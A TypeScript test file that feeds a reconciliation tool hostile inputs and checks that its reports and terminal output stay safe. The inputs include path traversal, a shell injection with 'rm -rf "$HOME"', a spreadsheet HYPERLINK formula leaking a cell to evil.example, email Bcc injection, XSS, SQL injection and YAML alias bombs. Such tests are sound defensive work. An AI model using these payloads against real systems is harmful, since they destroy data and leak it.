import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { PutObjectCommand } from '@aws-sdk/client-s3'
import { expect, test } from 'vitest'
import { CONTRACT } from '../../src/marketplace/contract.ts'
import { constat, type Outcome } from '../support/constat.ts'
import { readEml } from '../support/eml.ts'
import { TestEstate } from '../support/estate.ts'

/** Texts that anyone could have written into the marketplace, or uploaded a file under. */
const HOSTILE = [
  '../../../../../../tmp/constat-was-here',
  '/etc/constat-was-here',
  '..',
  '.',
  'C:\\constat-was-here',
  '\u001b[2J\u001b]0;title\u0007 escape',
  'invoice\u202Efdp.exe',
  'two\r\nBcc: everybody@evil.example\r\n\r\nlines',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '+1-1|cmd',
  '@SUM(A1)',
  '\t=1+1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"; rm -rf "$HOME"; $(touch constat-was-here) `touch constat-was-here`',
  "'; drop table fact; --",
  '{{issuer}} **bold** [x](javascript:alert(1)) | cell',
  '%2e%2e%2f%00\u0001\u0085',
  '𝕏\u0301\uFEFF é',
]

const literal = (text: string) => `'${text.replaceAll("'", "''")}'::text`
const manyColumns = Array.from({ length: 1000 }, (_, i) => `${i} as extra_${i}`).join(', ')

/** A SELECT of the contract: for each row what its columns are; a column that is not given is null. */
function select(name: string, rows: Record<string, string>[], more = ''): string {
  const { columns = [] } = CONTRACT.find((it) => it.name === name) ?? {}
  return rows
    .map(
      (row) =>
        `select ${columns.map((column) => `${row[column.name] ?? 'null'} as ${column.name}`).join(', ')}${more}`,
    )
    .join('\nunion all\n')
}

const DATES = [
  'infinity',
  '-infinity',
  '0001-01-01',
  '9999-12-31 23:59:59',
  '0044-03-15 12:00 BC',
  '2023-02-30',
  '',
  'never',
]
const SIZES = ['Infinity', 'NaN', '-1', '1e308', '9223372036854775808', '0x10', ' 10 ', '']
const HUGE = `repeat('x', 10 * 1024 * 1024)`

function mapping(): Record<string, string> {
  const texts = HOSTILE.map(literal)
  const everywhere = (name: string) => {
    const { columns = [] } = CONTRACT.find((it) => it.name === name) ?? {}
    return texts.map((text) => Object.fromEntries(columns.map((column) => [column.name, text])))
  }
  const ids = { collectivity_id: `'c'`, consultation_id: `'n'` }
  const promised = { ...ids, kind: `'offer'`, role: `'content'` }
  const huge = { collectivity_id: `'huge'`, consultation_id: `'huge'` }
  return {
    collectivities: select('collectivities', [
      ...everywhere('collectivities'),
      { collectivity_id: `'c'`, name: `'C'` },
      { collectivity_id: `'huge'`, name: HUGE },
      {},
    ]),
    consultations: select('consultations', [
      ...everywhere('consultations'),
      { ...ids, reference: `'R'`, opened_at: `'0001-01-01'`, deadline_at: `'9999-12-31'` },
      { ...huge, reference: `'H'`, title: HUGE },
      {},
    ]),
    buyers: select('buyers', [
      ...everywhere('buyers').map((row) => ({ ...row, active: `'true'` })),
      { collectivity_id: `'c'`, buyer_id: `'b'`, full_name: `'B'`, email: `'b@c.example'`, active: `'1'` },
      { collectivity_id: `'huge'`, buyer_id: `'b'`, full_name: HUGE, email: `'b@h.example'`, active: `'1'` },
      {},
    ]),
    'consultation-buyers': select('consultation-buyers', [
      ...everywhere('consultation-buyers'),
      { ...ids, buyer_id: `'b'` },
      { ...huge, buyer_id: `'b'` },
      {},
    ]),
    'expected-objects': select(
      'expected-objects',
      [
        ...everywhere('expected-objects').map((row) => ({
          ...row,
          bucket: 'null',
          kind: `'offer'`,
          role: `'content'`,
          not_expected: 'null',
        })),
        ...DATES.map((date, i) => ({
          ...promised,
          object_key: `'d${i}'`,
          file_id: `'d${i}'`,
          deposited_at: literal(date),
        })),
        ...SIZES.map((size, i) => ({
          ...promised,
          object_key: `'s${i}'`,
          file_id: `'s${i}'`,
          size_bytes: literal(size),
        })),
        { ...promised, ...huge, object_key: `'huge'`, file_id: `'huge'`, file_name: HUGE, bidder: HUGE },
        { ...promised, ...huge, object_key: HUGE, file_id: `'long'` },
        {},
      ],
      `, ${manyColumns}`,
    ),
  }
}

test('whatever rows and keys say, it stays in the cells, the headers and the folder that it belongs to', {
  timeout: 300_000,
}, async () => {
  const estate = new TestEstate()
  const Bucket = await estate.bucket({})
  for (const Key of ['=orphan', 'orphan\u202E\u001b[2J', 'd0'])
    await estate.client.send(new PutObjectCommand({ Bucket, Key, Body: 'x', ContentLength: 1 }))
  estate.mapping({}, mapping())
  const config = estate.config([{ bucket: Bucket }], [], ({ output }) =>
    Object.assign(output, { locale: 'fr', csv: 'office' }),
  )
  const job = (...args: string[]) => constat([...args, '--config', config], estate.environment)
  const run = join(estate.folder, 'out/hostile')

  const outcomes = [await job('reconcile', '--run', 'hostile'), await job('attest', '--run', 'hostile')]
  expect(outcomes.map(({ code, stderr }) => [code, stderr])).toEqual([
    [expect.toBeOneOf([1, 3]), expect.anything()],
    [0, expect.anything()],
  ])
  for (const outcome of outcomes) expectPlain(outcome)
  expect(outcomes[0]?.stderr).not.toContain('could not be listed')

  // nothing left the run's folder, nor made a name of what it says
  expect(readdirSync(estate.folder).sort()).toEqual(['constat.yaml', 'mapping', 'out'])
  expect(readdirSync(join(estate.folder, 'out')).sort()).toEqual(['attestations.json', 'hostile'])
  for (const name of readdirSync(run, { recursive: true, encoding: 'utf8' }))
    expect(name).toMatch(/^[\w./-]+$/)

  const files = readdirSync(run, { recursive: true, encoding: 'utf8' }).map((name) => join(run, name))
  const ending = (end: string) => files.filter((path) => path.endsWith(end))
  expect(ending('.pdf').length).toBeGreaterThan(1)
  for (const path of ending('.html'))
    expect([path, /<script>alert|<img src=x/.exec(readFileSync(path, 'utf8'))]).toEqual([path, null])
  for (const path of ending('.csv').filter((it) => !it.includes('/attestations/')))
    for (const cell of cellsOf(path)) expect([path, /^\s*[=+@-]|^[\t\r\n]/.exec(cell)]).toEqual([path, null])
  expect(ending('.eml').length).toBeGreaterThan(0)
  for (const path of ending('.eml')) {
    const { headers } = readEml(readFileSync(path))
    expect(Object.keys(headers).filter((name) => ['bcc', 'cc'].includes(name))).toEqual([])
    expect(headers['to'] ?? '').not.toContain('evil.example')
  }
})

/** Lines of ours, and in them nothing that a terminal would obey. */
function expectPlain({ stdout, stderr }: Outcome): void {
  const said = stdout + stderr
  expect(/[^\n\P{Cc}]|\p{Bidi_Control}/u.exec(said)).toBeNull()
  expect(said.length).toBeLessThan(20_000)
}

/** The cells of a list as a spreadsheet takes them, apostrophe and all; rates and counts of less than nothing there are none. */
function cellsOf(path: string): string[] {
  const written = readFileSync(path, 'utf8')
  return [...written.matchAll(/(?<=^\ufeff?|[;\n])(?:"((?:[^"]|"")*)"|([^";\r\n]*))/g)].map(
    ([, quoted, bare]) => quoted ?? bare ?? '',
  )
}

const BOMBS = {
  aliases: [
    'a: &a [x, x, x, x, x, x, x, x, x]',
    ...[...'bcdefghi'].map((name, i) => `${name}: &${name} [${`*${'abcdefgh'[i]}, `.repeat(9)}]`),
  ].join('\n'),
  'an alias of itself': 'a: &a { b: *a }',
  'brackets in thousands': '['.repeat(100_000),
  'a key of a megabyte': `${'k'.repeat(1_000_000)}: 1`,
  'two megabytes': `# ${'x'.repeat(2_000_000)}`,
}

test.each(Object.entries(BOMBS))('a configuration with %s is refused at once', async (_, text) => {
  const estate = new TestEstate()
  const config = join(estate.folder, 'constat.yaml')
  writeFileSync(config, text)
  const begun = performance.now()
  const outcome = await constat(['reconcile', '--config', config])
  expect(outcome).toMatchObject({ code: 2 })
  expect(outcome.stderr).toMatch(/^constat: /)
  expect(performance.now() - begun).toBeLessThan(20_000)
  expectPlain(outcome)
})
